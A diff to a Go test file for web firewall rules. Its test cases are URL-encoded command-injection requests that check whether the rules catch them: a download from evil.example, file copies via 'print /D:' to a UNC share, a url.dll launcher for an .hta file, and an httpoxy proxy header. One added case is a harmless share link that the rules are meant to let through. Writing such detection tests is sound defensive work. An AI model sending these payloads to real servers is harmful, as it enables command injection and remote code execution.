@@ -116,6 +116,8 @@ func TestNarrowedRules(t *testing.T) {
 		{932370, "Update /download, caret evasion", get("/?q=x%0AUp%5Edate%20/download%3Dhttp://evil.example/p"), true},
 		{932370, "print /D:", get("/?q=x%26print%20/D:C:%5Cx.exe%20%5C%5Cevil%5Cs%5Cp.exe"), true},
 		{932370, "print/d: joined", get("/?q=x%7Cprint/d:c:%5Cx.exe%20c:%5Cy.exe"), true},
+		{932370, "&url= in a link", get("/share?link=https%3A%2F%2Ftwitter.com%2Fintent%2Ftweet%3Ftext%3Dhi%26url%3Dhttps%3A%2F%2Fshop.example.com%2Fp%2F42"), false},
+		{932370, "url.dll", get("/?q=x%26url.dll,OpenURL%20c:%5Ct%5Cx.hta"), true},
 		{932370, "printbrm as before", get("/?q=x%3Bprintbrm%20-b%20-d%20x"), true},
 		{920450, "Proxy (httpoxy)", withHeader(get("/"), "Proxy", "http://evil.example:8080"), true},
 		{920450, "X-HTTP-Method-Override", withHeader(get("/"), "X-HTTP-Method-Override", "DELETE"), true},
